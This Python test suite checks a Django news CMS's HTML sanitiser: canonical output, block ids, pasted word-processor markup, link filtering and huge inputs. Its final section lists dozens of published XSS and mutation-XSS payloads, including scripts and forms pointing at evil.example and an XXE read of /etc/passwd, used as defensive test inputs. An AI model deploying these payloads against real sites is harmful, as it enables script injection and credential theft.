"""The normaliser: what comes out, what never does, and that nothing is lost on the way."""

import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import lxml.html
import pytest
from django.template import Context, Template
from hypothesis import given
from hypothesis import strategies as st

from articles.richtext import (
    ALLOWED,
    Block,
    Html,
    Kind,
    Part,
    block_html,
    body_from,
    clean_inline,
    count_words,
    from_inner,
    from_plain_text,
    is_translatable,
    join_blocks,
    language_tag,
    plain_text,
    public_html,
    public_inner,
    replace_text,
    safe_href,
    sanitise,
    split_blocks,
)


def without_ids(body):
    return re.sub(r' data-bid="[^"]*"', "", body)


def bids(body):
    return re.findall(r'data-bid="([^"]*)"', body)


PICTURE = '<figure data-image="1"></figure>'
EMBED = '<figure class="embed" data-provider="x"><a href="https://x.example/1">{}</figure>'

# Arbitrary HTML: pieces of markup, ours and others', in any order, closed or not.
TEXTS = st.one_of(
    st.sampled_from(
        ["Moskwa", " ", "\n", "\u00a0", "5\u00a0km", "a < b & c", "&amp;lt;", "&nbsp;"]
    ),
    st.text(st.characters(), max_size=12),
    st.text("e\u0301\u0338\u200b\u200d\u00e9\u00a0 <>&\u212a\U0001f469", max_size=12),
)
TAGS = st.sampled_from(
    [
        *ALLOWED,
        *["div", "b", "i", "h1", "h5", "table", "tr", "td", "br", "hr", "font", "o:p", "section"],
        *[
            "q",
            "sup",
            "sub",
            "svg",
            "math",
            "mtext",
            "script",
            "style",
            "template",
            "select",
            "pre",
        ],
    ]
)
ATTRIBUTES = st.sampled_from(
    [
        "",
        "",
        ' data-bid="abcd2345"',
        ' data-bid="zzzz2222"',
        ' data-bid="no"',
        ' href="https://example.com/?a=1&amp;b=2"',
        ' href="javascript:alert(1)"',
        ' lang="ru"',
        ' title="Perserikatan Bangsa-Bangsa"',
        ' class="note"',
        ' class="embed" data-provider="youtube"',
        ' data-image="7"',
        ' style="font-weight:700"',
        ' class="MsoListParagraph" style="mso-list:l0"',
    ]
)
PIECES = st.one_of(
    TEXTS,
    st.builds("<{}{}>".format, TAGS, ATTRIBUTES),
    st.builds("</{}>".format, TAGS),
)
SOUP = st.lists(PIECES, max_size=30).map("".join)


@given(SOUP)
def test_sanitising_twice_gives_the_same_bytes(html):
    once = sanitise(html)

    assert sanitise(once) == once


@given(SOUP)
def test_joining_the_blocks_gives_the_body(html):
    assert join_blocks(split_blocks(html)) == sanitise(html)


@given(SOUP)
def test_every_block_has_an_id_of_its_own(html):
    blocks = split_blocks(html)

    assert [len(block.bid) for block in blocks] == [8] * len(blocks)
    assert len({block.bid for block in blocks}) == len(blocks)
    assert sorted(bids(sanitise(html))) == sorted(block.bid for block in blocks)


@given(SOUP)
def test_only_the_table_comes_out(html):
    assert_harmless(sanitise(html))


@given(st.text(st.characters()))
def test_no_text_makes_the_normaliser_raise(text):
    body = sanitise(text)

    assert unicodedata.normalize("NFC", body) == body
    assert_harmless(body)


@given(st.lists(st.text("abcäß <>&\"'.1", min_size=1), min_size=1))
def test_every_word_of_plain_text_is_kept(paragraphs):
    body = from_plain_text("\n\n".join(paragraphs))

    assert plain_text(body).split() == " ".join(paragraphs).split()


@given(SOUP)
def test_the_words_of_a_body_survive_a_journey_as_plain_text(html):
    text = plain_text(sanitise(html))

    assert plain_text(from_plain_text(text)).split() == text.split()


@given(SOUP, TEXTS)
def test_a_block_with_new_text_keeps_its_place_and_its_element(html, text):
    blocks = split_blocks(html)
    replaced = [replace_text(block, text) for block in blocks]

    body = join_blocks(replaced)

    assert sanitise(body) == body
    assert [(b.bid, b.kind, b.tag, b.attributes) for b in replaced] == [
        (b.bid, b.kind, b.tag, b.attributes) for b in blocks
    ]


@given(SOUP)
def test_the_inner_text_of_a_block_is_canonical_for_its_kind(html):
    for block in split_blocks(html):
        assert from_inner(block.kind, block.html) == block.html


@given(SOUP, st.sampled_from(Kind))
def test_a_cleaned_inner_text_is_cleaned_once_and_for_all(html, kind):
    inner = from_inner(kind, html)

    assert from_inner(kind, inner) == inner


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("", ""),
        ("  \n ", ""),
        ("Kata", "<p>Kata</p>"),
        ("<p>Satu</p>  <p>Dua</p>", "<p>Satu</p><p>Dua</p>"),
        ("<p>  banyak \n\t spasi </p>", "<p>banyak spasi</p>"),
        ("<p></p><p>&nbsp;</p><p>\u200b</p><h2> </h2><ul><li></li></ul>", ""),
        ("<div>Satu</div><div>Dua</div>", "<p>Satu</p><p>Dua</p>"),
        ("<section><div><p>Satu</p>Dua</div></section>", "<p>Satu</p><p>Dua</p>"),
        ("Satu<p>Dua</p>Tiga", "<p>Satu</p><p>Dua</p><p>Tiga</p>"),
        ("<p>Satu<br><br>Dua<br>tiga</p>", "<p>Satu</p><p>Dua tiga</p>"),
        ("<p>Satu</p><hr><p>Dua</p>", "<p>Satu</p><p>Dua</p>"),
        ("<h1>Satu</h1><h4>Dua</h4>", "<h2>Satu</h2><h3>Dua</h3>"),
        ("<h2><b>Tebal</b> <i>miring</i></h2>", "<h2>Tebal <em>miring</em></h2>"),
        ("<h2>Satu<br>dua</h2>", "<h2>Satu dua</h2>"),
        ("<p><b>a</b><i>b</i></p>", "<p><strong>a</strong><em>b</em></p>"),
        ("<p><em><strong>a</strong></em></p>", "<p><strong><em>a</em></strong></p>"),
        ("<p><b>a</b><strong>b</strong></p>", "<p><strong>ab</strong></p>"),
        ("<p><b><b>a</b></b></p>", "<p><strong>a</strong></p>"),
        ("<p><b>kata </b>lain</p>", "<p><strong>kata</strong> lain</p>"),
        ("<p>kata<b> lain</b></p>", "<p>kata <strong>lain</strong></p>"),
        ("<p><b>satu</b> <b>dua</b></p>", "<p><strong>satu</strong> <strong>dua</strong></p>"),
        ("<p>a <b> </b> b</p>", "<p>a b</p>"),
        ("<b><p>Satu</p><p>Dua</p></b>", "<p><strong>Satu</strong></p><p><strong>Dua</strong></p>"),
        ("<p>Kata <cite>Pravda</cite></p>", "<p>Kata <em>Pravda</em></p>"),
        ("<p><q>Ya</q>, kata dia</p>", "<p>“Ya”, kata dia</p>"),
        ("<p>10<sup>6</sup> m<sup>2</sup>, CO<sub>2</sub></p>", "<p>10⁶ m², CO₂</p>"),
        ("<p>Harga <del>lama</del><ins>baru</ins></p>", "<p>Harga baru</p>"),
        ('<p><span lang="ru-ru">да</span></p>', '<p><span lang="ru-RU">да</span></p>'),
        ('<p><i lang="fr">mot</i></p>', '<p><span lang="fr"><em>mot</em></span></p>'),
        ('<p><span lang="not a tag">x</span><span>y</span></p>', "<p>xy</p>"),
        (
            '<p><abbr title=" Badan  PBB ">PBB</abbr></p>',
            '<p><abbr title="Badan PBB">PBB</abbr></p>',
        ),
        ("<p><abbr>PBB</abbr></p>", "<p>PBB</p>"),
        ('<p><a href="/id/">situs</a></p>', '<p><a href="/id/">situs</a></p>'),
        ('<p><a href="//jahat.example">x</a></p>', "<p>x</p>"),
        ('<p><a name="_GoBack">x</a></p>', "<p>x</p>"),
        (
            '<p><a href="https://a.example/?x=1&y=2" target="_blank" onclick="f()">x</a></p>',
            '<p><a href="https://a.example/?x=1&amp;y=2">x</a></p>',
        ),
    ],
)
def test_paragraphs_headings_and_marks(html, expected):
    assert without_ids(sanitise(html)) == expected


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<ul><li>a</li><li>b</li></ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<ul><li><p>a</p></li></ul>", "<ul><li>a</li></ul>"),
        ("<ul><li><p>a</p><p>b</p></li></ul>", "<ul><li>a b</li></ul>"),
        ("<ul><li>a</li></ul><ul><li>b</li></ul>", "<ul><li>a</li></ul><ul><li>b</li></ul>"),
        ("<ul><li>a</li></ul><ol><li>b</li></ol>", "<ul><li>a</li></ul><ol><li>b</li></ol>"),
        ("<ul><li>a<ol><li>b</li></ol>c</li></ul>", "<ul><li>a</li><li>b</li><li>c</li></ul>"),
        ("<ul>teks<li>a</li></ul>", "<ul><li>teks</li><li>a</li></ul>"),
        ("<li>a</li><li>b</li>", "<ul><li>a</li><li>b</li></ul>"),
        ("<ul><li><h2>a</h2></li></ul>", "<ul><li>a</li></ul>"),
        ("<blockquote>a</blockquote>", "<blockquote><p>a</p></blockquote>"),
        (
            "<blockquote><p>a</p><p>b</p><footer>— <cite>Galuzin</cite></footer></blockquote>",
            "<blockquote><p>a</p><p>b</p><cite>Galuzin</cite></blockquote>",
        ),
        (
            "<blockquote><p>a <cite>Galuzin</cite></p></blockquote>",
            "<blockquote><p>a</p><cite>Galuzin</cite></blockquote>",
        ),
        ("<blockquote><cite>a</cite></blockquote>", "<blockquote><p>a</p></blockquote>"),
        (
            "<blockquote><ul><li>a</li></ul><h2>b</h2></blockquote>",
            "<blockquote><p>a</p><p>b</p></blockquote>",
        ),
        (
            "<blockquote><blockquote>a</blockquote>b</blockquote>",
            "<blockquote><p>a</p><p>b</p></blockquote>",
        ),
        ('<aside class="note big">a</aside>', '<aside class="note"><p>a</p></aside>'),
        ("<aside>a</aside>", "<p>a</p>"),
        (
            '<figure data-image="12"><img src="x"><figcaption>a <b>b</b></figcaption></figure>',
            '<figure data-image="12"><figcaption>a <strong>b</strong></figcaption></figure>',
        ),
        ('<figure data-image="12"></figure>', '<figure data-image="12"></figure>'),
        ('<figure data-image="0x1"><figcaption>a</figcaption></figure>', "<p>a</p>"),
        ("<figure><img src=x><figcaption>a</figcaption></figure>", "<p>a</p>"),
        (
            f"<blockquote>a{PICTURE}b</blockquote>",
            f"<blockquote><p>a</p></blockquote>{PICTURE}<blockquote><p>b</p></blockquote>",
        ),
        (EMBED.format("Video</a>"), EMBED.format("Video</a>")),
        (EMBED.format("<b>V</b></a><p>ideo</p>"), EMBED.format("V ideo</a>")),
        (
            '<figure class="embed" data-provider="x"><a href="/y">Video</a></figure>',
            '<p><a href="/y">Video</a></p>',
        ),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "<p>a</p><p>b</p>"),
    ],
)
def test_lists_quotes_notes_and_figures(html, expected):
    assert without_ids(sanitise(html)) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("cafe\u0301", "café"),
        ("5\u00a0km", "5\u00a0km"),
        ("Rp\u202f3", "Rp\u00a03"),
        ("kata\u00a0lain", "kata lain"),
        ("5\u00a0 km", "5 km"),
        ("pe\u00adme\u200brin\ufefftah", "pemerintah"),
        ("\u202etxt.exe\u202c", "txt.exe"),
        ("👩\u200d💻 a\u200db", "👩\u200d💻 ab"),
        ("a\x00b\x07c\x1bd", "abcd"),
        ("baris\u2028baru\u3000lebar", "baris baru lebar"),
        ("a\ud800b", "ab"),
    ],
)
def test_characters_that_cannot_be_seen(text, expected):
    assert sanitise(f"<p>{text}</p>") == body_from([Part(Kind.PARAGRAPH, expected)])
    assert split_blocks(text)[0].text == expected


@pytest.mark.parametrize(
    ("href", "expected"),
    [
        ("https://example.com/a?b=c#d", "https://example.com/a?b=c#d"),
        ("HTTPS://Example.com", "https://Example.com"),
        ("  http://example.com/a b ", "http://example.com/a%20b"),
        ("mailto:desk@example.com?subject=Ralat", "mailto:desk@example.com?subject=Ralat"),
        ("/id/2016/02/26/a/", "/id/2016/02/26/a/"),
        ("https://example.com/@nama", "https://example.com/@nama"),
        ('https://example.com/\\a"b<c>`', "https://example.com/%5Ca%22b%3Cc%3E%60"),
        ("", ""),
        ("//example.com", ""),
        ("/\\example.com", "/%5Cexample.com"),
        ("\\\\example.com", ""),
        ("https:example.com", ""),
        ("https:///example.com", ""),
        ("https://bank.example@evil.example/", ""),
        ("example.com", ""),
        ("#a", ""),
        ("javascript:alert(1)", ""),
        ("java\nscript:alert(1)", ""),
        ("\x01javascript:alert(1)", ""),
        ("data:text/html,x", ""),
        ("ftp://example.com", ""),
        ("tel:123", ""),
        ("mailto:nobody", ""),
        ("https://example.com/" + "a" * 2000, ""),
    ],
)
def test_addresses_that_may_be_linked_to(href, expected):
    assert safe_href(href) == expected


@pytest.mark.parametrize(
    ("tag", "expected"),
    [
        ("RU", "ru"),
        ("zh-hant-tw", "zh-Hant-TW"),
        ("es-419", "es-419"),
        ("sl-rozaj-1994", "sl-rozaj-1994"),
        ("x-klingon", ""),
        ("bahasa", ""),
        ("en_US", ""),
        ("", ""),
    ],
)
def test_language_tags(tag, expected):
    assert language_tag(tag) == expected


WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<meta name=Generator content="Microsoft Word 15"><title>Naskah</title>
<style>p.MsoNormal {margin:0cm;}</style>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head>
<body lang=IN style='tab-interval:36.0pt'><!--StartFragment-->
<h1><span lang=EN-US style='mso-ansi-language:EN-US'>Judul <b>besar</b><o:p></o:p></span></h1>
<p class=MsoNormal><b style='mso-bidi-font-weight:normal'><span lang=EN-US>JAKARTA</span></b>
<span lang=EN-US>&nbsp;&#8211; Harga naik <i>sangat</i>
tinggi.<o:p></o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'>
<![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span
style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>Satu<o:p>
</o:p></p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><span
style='mso-list:Ignore'>·<span>&nbsp; </span></span>Dua</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><span
style='mso-list:Ignore'>1.<span>&nbsp; </span></span>Tiga</p>
<p class=MsoNormal><a href="https://example.com/"><span style='color:blue'>Tautan</span></a></p>
<!--EndFragment--></body></html>"""
GOOGLE = (
    '<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1">'
    '<h2 dir="ltr" style="line-height:1.38"><span style="font-weight:700;">Judul</span></h2>'
    '<p dir="ltr" style="line-height:1.38;"><span style="font-family:Arial;font-weight:400;'
    'font-style:normal;white-space:pre-wrap;">Harga </span><span style="font-weight:700;">naik'
    '</span><span style="font-style:italic;font-weight:400"> lagi</span></p><br />'
    '<ul style="margin-top:0;"><li dir="ltr" aria-level="1"><p dir="ltr" role="presentation">'
    '<span style="font-weight:400;">Satu</span></p></li></ul></b>'
    '<br class="Apple-interchange-newline">'
)
LIBRE = (
    '<meta http-equiv="content-type" content="text/html; charset=utf-8"/>'
    '<meta name="generator" content="LibreOffice 7.4 (Linux)"/>'
    '<p style="margin-bottom: 0cm"><font face="Arial"><span lang="id-ID">Harga </span>'
    '<span lang="en-US"><b>naik</b></span></font></p>'
)


@pytest.mark.parametrize(
    ("pasted", "expected"),
    [
        (
            WORD,
            (
                "<h2>Judul besar</h2>"
                "<p><strong>JAKARTA</strong> – Harga naik <em>sangat</em> tinggi.</p>"
                "<ul><li>Satu</li><li>Dua</li></ul><ol><li>Tiga</li></ol>"
                '<p><a href="https://example.com/">Tautan</a></p>'
            ),
        ),
        (
            GOOGLE,
            "<h2>Judul</h2><p>Harga <strong>naik</strong> <em>lagi</em></p><ul><li>Satu</li></ul>",
        ),
        (LIBRE, "<p>Harga <strong>naik</strong></p>"),
    ],
    ids=["word", "google", "libreoffice"],
)
def test_what_word_processors_put_on_the_clipboard(pasted, expected):
    assert without_ids(sanitise(pasted)) == expected


def test_valid_ids_are_kept_and_only_those():
    body = sanitise(
        '<p data-bid="aaaa1111">Satu</p><p data-bid="aaaa1111">Dua</p><p data-bid="XX">Tiga</p>'
        '<ul data-bid="cccc3333"><li data-bid="bbbb2222">Empat</li></ul>'
    )

    first, second, third, fourth = bids(body)
    assert (first, fourth) == ("aaaa1111", "bbbb2222")
    assert len({first, second, third, fourth}) == 4
    assert bids(sanitise(body)) == [first, second, third, fourth]


def test_a_paragraph_split_by_a_quote_keeps_its_id_on_the_first_part():
    body = sanitise('<p data-bid="aaaa1111">Satu<br><br>Dua</p>')

    assert [(block.text, block.bid == "aaaa1111") for block in split_blocks(body)] == [
        ("Satu", True),
        ("Dua", False),
    ]


def test_equal_input_gives_equal_ids():
    html = "<p>Satu</p><p>Satu</p><h2>Dua</h2>"

    assert sanitise(html) == sanitise(html)


def test_blocks_tell_what_they_are():
    blocks = split_blocks(
        '<h2 data-bid="aaaa1111">Judul</h2><ol><li data-bid="bbbb2222">a</li>'
        '<li data-bid="cccc3333">b</li></ol>'
        '<blockquote data-bid="dddd4444"><p>x</p><p>y</p><cite>z</cite></blockquote>'
        '<figure data-bid="eeee5555" data-image="9"></figure>'
    )

    assert blocks == [
        Block("aaaa1111", Kind.HEADING, "Judul", "h2"),
        Block("bbbb2222", Kind.LIST_ITEM, "a", "ol", list_start=True),
        Block("cccc3333", Kind.LIST_ITEM, "b", "ol"),
        Block("dddd4444", Kind.QUOTE, "<p>x</p><p>y</p><cite>z</cite>", "blockquote"),
        Block("eeee5555", Kind.FIGURE, "", "figure", (("data-image", "9"),)),
    ]
    assert [block.text for block in blocks] == ["Judul", "a", "b", "x\ny\nz", ""]
    assert [is_translatable(block) for block in blocks] == [True, True, True, True, False]


def test_a_translated_block_takes_the_shape_of_its_kind():
    heading, quote, figure, embed = split_blocks(
        "<h2>Judul</h2><blockquote><p>Ya</p><cite>Galuzin</cite></blockquote>"
        '<figure data-image="9"><figcaption>Foto</figcaption></figure>'
        '<figure class="embed" data-provider="x"><a href="https://x.example">Video</a></figure>'
    )

    assert replace_text(heading, "<p><b>Head</b>line</p>").html == "Headline"
    assert replace_text(quote, "Yes<cite>G.</cite>").html == "<p>Yes</p><cite>G.</cite>"
    assert replace_text(figure, "<p>Photo").html == "<figcaption>Photo</figcaption>"
    assert replace_text(embed, "Film") == embed
    assert block_html(replace_text(quote, "<p>Yes")) == (
        f'<blockquote data-bid="{quote.bid}"><p>Yes</p></blockquote>'
    )


def test_a_list_begins_where_its_first_item_with_words_stands():
    first, second, third = split_blocks("<ul><li>a</li></ul><ul><li>b</li><li>c</li></ul>")

    body = join_blocks([first, replace_text(second, ""), third])

    assert without_ids(body) == "<ul><li>a</li></ul><ul><li>c</li></ul>"


def test_readers_get_no_ids_and_links_that_do_not_hand_over_the_window():
    body = sanitise(
        '<p>Lihat <a href="https://a.example/">situs</a>, <a href="/id/">kami</a> dan '
        '<a href="mailto:a@a.example">surat</a> "x"</p><ul><li>a</li></ul>'
    )

    assert public_html(body) == (
        '<p>Lihat <a href="https://a.example/" rel="noopener">situs</a>, <a href="/id/">kami</a> '
        'dan <a href="mailto:a@a.example">surat</a> "x"</p><ul><li>a</li></ul>'
    )


def test_one_block_is_cleaned_like_a_body_and_printed_as_markup():
    inner = public_inner(Kind.PARAGRAPH, 'Lihat <a href="https://a.example/">ini</a><script>')

    page = Template("{{ inner }} {{ words }}").render(Context({"inner": inner, "words": inner[:5]}))

    assert page == 'Lihat <a href="https://a.example/" rel="noopener">ini</a> Lihat'
    assert isinstance(public_html("<p>a</p>"), Html)
    assert type(inner[10:]) is str


def test_plain_text_and_the_count_of_words():
    body = sanitise(
        "<h2>Judul &amp; isi</h2><p>Seolah-olah 1.234,5 – ya.</p><ul><li>Satu</li></ul>"
        + EMBED.format("Video baru</a>")
    )

    assert plain_text(body) == "Judul & isi\n\nSeolah-olah 1.234,5 – ya.\n\nSatu\n\nVideo baru"
    assert count_words(body) == 6


def test_plain_text_becomes_paragraphs():
    body = from_plain_text("Satu <b>\nbaris\r\n\r\nDua\n \n\nTiga & empat\n")

    assert without_ids(body) == "<p>Satu &lt;b&gt; baris</p><p>Dua</p><p>Tiga &amp; empat</p>"


def test_a_body_is_built_from_parts():
    body = body_from(
        [
            Part(Kind.HEADING, "Judul"),
            Part(Kind.PARAGRAPH, "Teks <b>tebal</b>"),
            Part(Kind.PARAGRAPH, " "),
            Part(Kind.QUOTE, "Ya", cite="Galuzin"),
            Part(Kind.LIST_ITEM, "a"),
            Part(Kind.LIST_ITEM, "b"),
            Part(Kind.LIST_ITEM, "c", ordered=True),
            Part(Kind.NOTE, "Catatan"),
            Part(Kind.FIGURE, "Foto", image=3),
            Part(Kind.EMBED, '<a href="https://x.example">Video</a>', provider="x"),
        ]
    )

    assert without_ids(body) == (
        "<h2>Judul</h2><p>Teks <strong>tebal</strong></p>"
        "<blockquote><p>Ya</p><cite>Galuzin</cite></blockquote>"
        "<ul><li>a</li><li>b</li></ul><ol><li>c</li></ol>"
        '<aside class="note"><p>Catatan</p></aside>'
        '<figure data-image="3"><figcaption>Foto</figcaption></figure>'
        '<figure class="embed" data-provider="x"><a href="https://x.example">Video</a></figure>'
    )


def test_a_line_of_text_keeps_its_marks_and_nothing_else():
    assert clean_inline("<h1>Satu <b>dua</b><br></h1><p>tiga <script>x</script></p>") == (
        "Satu <strong>dua</strong> tiga"
    )


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000 + "kata",
        "<b>" * 100_000 + "kata",
        "<ul><li>" * 100_000 + "kata",
        "".join(f"<p><b id={n}>kata" for n in range(11_000)),
        "".join(f"<p><a href=/{n}>kata" for n in range(1_500)),
        "<p>kata</p>" * 20_000,
        "<" * 200_000,
        "<a " * 100_000,
        "<!--" * 100_000,
        "&" * 100_000,
        "\u200d" * 500_000,
        "<p " + 'a="' * 100_000,
        "kata " * 100_000,
        "<table><tr><td>" * 30_000,
        "<svg><math>" * 30_000,
    ],
    ids=lambda html: html[:12],
)
def test_monstrous_input_is_cleaned_for_good_in_a_moment(html):
    body = sanitise(html)

    assert sanitise(body) == body


def test_the_reference_page_names_what_is_allowed_and_nothing_else():
    root = Path(__file__).resolve().parents[2]
    page = (root / "docs/reference/body-markup.md").read_text()
    tables = page[page.index("## Blocks") : page.index("## Canonical form")]

    assert set(re.findall(r"<([a-z0-9]+)", tables)) == set(ALLOWED)


# Published vectors: the OWASP and PortSwigger cheat sheets, and ways around DOMPurify, Mozilla
# Bleach and Closure by parsers that read a text differently the second time.
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<SCRIPT/XSS SRC='http://evil.example/xss.js'></SCRIPT>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)` onerror=`alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1);'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://good.example' onmouseover='alert(1)' style='x:expression(1)'>x</a>",
    '<a href="https://x.example/`onmouseover=alert(1)`">x</a>',
    "<p title='</p><img src=x onerror=alert(1)>'>x</p>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<span lang='\" onclick=alert(1) x=\"'>x</span>",
    "<p data-bid='\"><script>alert(1)</script>'>x</p>",
    "<figure data-image='1\" onload=\"alert(1)'><figcaption>x</figcaption></figure>",
    "<figure class=embed data-provider='x\"><script>alert(1)</script>'><a href=javascript:1>y</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p>&y;</p>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<base href='https://evil.example/'><a href='/x'>x</a>",
    "<form action='https://evil.example'><input name=password><button>Masuk</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p id=attributes><img name=nodeName></p><form id=x><input name=parentNode></form>",
    "<x onclick=alert(1) contenteditable tabindex=1 autofocus onfocus=alert(1)>x</x>",
    "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<p>\u0338<script>alert(1)</script>\u0338</p>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_published_attacks_come_out_harmless(vector):
    for body in (
        sanitise(vector),
        sanitise(f"<blockquote><p>a</p>{vector}</blockquote>"),
        sanitise(f"<ul><li>{vector}</li></ul>"),
        f"<p>{clean_inline(vector)}</p>",
        from_plain_text(vector),
        public_html(vector),
    ):
        assert_harmless(body)


def assert_harmless(body):
    """Read the body with two parsers that are not ours and look at all that they find."""
    reader = _Found()
    reader.feed(body)
    reader.close()
    assert reader.others == []
    tree = lxml.html.fragment_fromstring(f"<div>{body}</div>", create_parent="body")
    for element in list(tree[0].iter())[1:]:
        reader.elements.append((element.tag, dict(element.attrib)))
    for tag, attributes in reader.elements:
        assert tag in ALLOWED
        assert set(attributes) <= {*ALLOWED[tag].attributes, *(["rel"] if tag == "a" else [])}
        assert attributes.get("class") in {None, "note", "embed"}
        assert re.fullmatch(
            r"https?://[^/\\]\S*|mailto:\S+|/|/[^/\\]\S*", attributes.get("href", "/")
        )


class _Found(HTMLParser):
    """Collects elements, and what is neither element nor text."""

    def __init__(self):
        super().__init__()
        self.elements = []
        self.others = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.others.append(data)

    def handle_decl(self, decl):
        self.others.append(decl)

    def handle_pi(self, data):
        self.others.append(data)

    def unknown_decl(self, data):
        self.others.append(data)
